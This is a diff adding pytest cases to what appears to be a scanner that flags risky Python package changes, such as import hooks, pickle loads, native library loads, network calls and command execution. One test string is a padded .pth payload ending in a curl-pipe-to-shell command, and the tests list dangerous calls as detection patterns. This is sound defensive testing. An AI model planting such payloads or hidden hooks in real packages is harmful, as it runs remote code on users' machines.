@@ -441,6 +441,25 @@ def test_start_up_modules_in_an_sdist_source_root(tmp_path: Path) -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "sys.meta_path[:0] = [Finder()]",
+        "sys.meta_path += [Finder()]",
+        "sys.path_hooks = [hook, *sys.path_hooks]",
+    ],
+)
+def test_an_import_hook_installed_with_no_call(tmp_path: Path, line: str) -> None:
+    hooks = line.split(" ", 1)[0].split("[", 1)[0]
+    new = {"demo/__init__.py": f"import sys\nfrom ._f import Finder, hook\n{line}\n"}
+    assert find(tmp_path, {"demo/__init__.py": "import sys\n"}, new) == [
+        ("exec", "demo/__init__.py", f"{hooks}() installs an import hook (line 3)")
+    ]
+    # Read, not changed: no hook.
+    reads = {"demo/__init__.py": "import sys\nfirst = sys.meta_path[0]\n"}
+    assert find(tmp_path / "reads", {"demo/__init__.py": "import sys\n"}, reads) == []
+
+
 def test_a_long_detail_is_whole_or_says_how_much_is_cut(tmp_path: Path) -> None:
     """A .pth payload padded to 600 characters was cut at 100: the os.system was lost."""
     padded = "import os; " + "x=1; " * 120 + "os.system('curl x | sh')"
@@ -461,6 +480,26 @@ def test_a_long_detail_is_whole_or_says_how_much_is_cut(tmp_path: Path) -> None:
         ("ctypes.CDLL(path)", "ctypes.CDLL() loads a native library (line 2)"),
         ("socket.getaddrinfo(host, 443)", "socket.getaddrinfo() reaches the network (line 2)"),
         ("webbrowser.open(url)", "webbrowser.open() reaches the network (line 2)"),
+        ("_pickle.loads(blob)", "_pickle.loads() loads a pickle, which can run any code (line 2)"),
+        (
+            "pickle._Unpickler(f).load()",
+            "pickle._Unpickler() loads a pickle, which can run any code (line 2)",
+        ),
+        ("imp.load_source('x', path)", "imp.load_source() loads Python code from a file (line 2)"),
+        ("_ctypes.dlopen(path)", "_ctypes.dlopen() loads a native library (line 2)"),
+        (
+            "importlib.machinery.ExtensionFileLoader('x', path)",
+            "importlib.machinery.ExtensionFileLoader() loads a native library (line 2)",
+        ),
+        (
+            "urllib.request.URLopener().open(url)",
+            "urllib.request.URLopener() reaches the network (line 2)",
+        ),
+        (
+            "multiprocessing.util.spawnv_passfds('/bin/sh', args, ())",
+            "multiprocessing.util.spawnv_passfds() runs a command (line 2)",
+        ),
+        ("pydoc.pager(text)", "pydoc.pager() runs a command (line 2)"),
     ],
 )
 def test_loads_that_run_code_and_more_network_calls(tmp_path: Path, call: str, detail: str) -> None:
